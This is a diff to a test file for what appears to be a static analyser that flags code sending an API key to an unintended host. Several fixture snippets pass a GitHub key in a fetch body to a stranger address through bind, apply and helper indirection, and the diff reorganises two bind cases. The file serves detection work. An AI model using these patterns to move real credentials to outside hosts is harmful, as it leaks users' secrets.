@@ -27,8 +27,8 @@ const helpers: Readonly<Record<string, readonly [string, (url: string, key: stri
   ],
   'makes the headers': [
     `async function api(url, key) {
-      const headers = { accept: 'application/json' };
-      headers.authorization = \`Bearer \${key}\`;
+      if (!key) throw new Error('no key');
+      const headers = { accept: 'application/json', authorization: \`Bearer \${key}\` };
       const answer = await fetch(url, { headers });
       return answer.json();
     }`,
@@ -215,10 +215,6 @@ const other: Readonly<Record<string, string>> = {
   'comes by apply': `function send(url, key) { return fetch(url, { body: key }); }
     await send(${github}, 'page');
     await send.apply(null, [${stranger}, ${githubKey}]);`,
-  'is bound': `const send = (url, key) => fetch(url, { body: key });
-    const away = send.bind(null, ${stranger});
-    await send(${github}, 'page');
-    await away(${githubKey});`,
   'comes by Reflect.apply': `const send = (url, key) => fetch(url, { body: key });
     await send(${github}, 'page');
     await Reflect.apply(send, undefined, [${stranger}, ${githubKey}]);`,
@@ -229,10 +225,6 @@ const other: Readonly<Record<string, string>> = {
     const other = send.bind(null);
     await send(${github}, 'page');
     await other(${stranger}, ${githubKey});`,
-  'follows a bound key': `const send = (key, url) => fetch(url, { body: key });
-    const away = send.bind(null, ${githubKey});
-    await send('page', ${github});
-    await away(${stranger});`,
   'comes from a helper in the helper': `const send = (url, key) => fetch(url, { body: key });
     const both = (url, key) => { send(url, key); send(${stranger}, key); };
     await both(${github}, ${githubKey});
@@ -256,5 +248,24 @@ describe('a call of a helper that does not say where its key goes', () => {
   });
   it.each(Object.entries(other))('as the address %s', async (_, code) => {
     expect((await flowsOf(code)).verdict).toBe('block');
+  });
+  it.each([
+    [
+      'is bound',
+      `const send = (url, key) => fetch(url, { body: key });
+    const away = send.bind(null, ${stranger});
+    await send(${github}, 'page');
+    await away(${githubKey});`,
+    ],
+    [
+      'follows a bound key',
+      `const send = (key, url) => fetch(url, { body: key });
+    const away = send.bind(null, ${githubKey});
+    await send('page', ${github});
+    await away(${github});
+    await [${stranger}].map(away);`,
+    ],
+  ])('is held as the address %s', async (_, code) => {
+    expect((await flowsOf(code)).verdict).not.toBe('pass');
   });
 });
